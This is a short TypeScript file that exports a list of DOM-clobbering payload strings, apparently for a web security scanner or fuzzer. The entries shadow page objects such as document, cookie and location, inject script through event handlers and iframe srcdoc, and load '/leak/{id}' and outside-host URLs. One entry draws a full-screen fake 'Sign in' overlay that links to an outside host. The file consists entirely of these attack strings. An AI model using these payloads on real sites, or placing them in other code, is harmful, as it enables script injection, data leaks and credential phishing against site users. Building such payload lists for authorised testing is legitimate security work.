/** Names that replace objects of a page's own script, and elements that cover the card. */
export const clobberingVectors: string[] = [
  ...[
    'document',
    'body',
    'forms',
    'cookie',
    'location',
    'getElementById',
    'currentScript',
    'defaultView',
    'config',
  ].flatMap((name) => [
    `<img name=${name} src="/leak/{id}">`,
    `<form name=${name}><input name=action><input name=parentNode></form><img src=/leak/{id}>`,
    `<a id=${name}></a><a id=${name} name=url href="http://{host}/x">click</a>`,
    `<iframe name=${name} srcdoc="<a id=x href=http://{host}/x>y</a><script>{js}</script>"></iframe>`,
  ]),
  '<input id=attributes name=attributes onclick={js} autofocus onfocus={js}>',
  '<form onclick={js}><input name=attributes><button>press</button></form>',
  '<form id=x onfocus={js} tabindex=0 autofocus><input name=removeChild><input name=childNodes></form>',
  '<form><output name=nodeName onclick={js}>click</output></form>',
  '<object id=x data="http://{host}/x"></object><object id=x name=y data="http://{host}/x"></object>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white"><a href="http://{host}/x" style="display:block;height:100%">Sign in</a></div>',
]
